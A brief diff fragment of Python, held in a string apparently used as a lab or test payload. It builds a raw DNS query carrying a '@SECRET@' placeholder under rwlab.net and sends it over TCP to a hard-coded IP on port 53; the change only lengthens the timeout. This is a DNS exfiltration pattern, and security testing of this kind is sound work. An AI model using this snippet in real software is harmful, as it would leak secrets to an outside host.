@@ -13,7 +13,7 @@ def query(name, kind):
     return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack(">HH", kind, 1)
 
 asked = query("@SECRET@.rwlab.net", 1)
-with socket.create_connection(("93.184.216.53", 53), 10) as line:
+with socket.create_connection(("93.184.216.53", 53), 30) as line:
     line.sendall(struct.pack(">H", len(asked)) + asked)
     line.recv(999)
 """
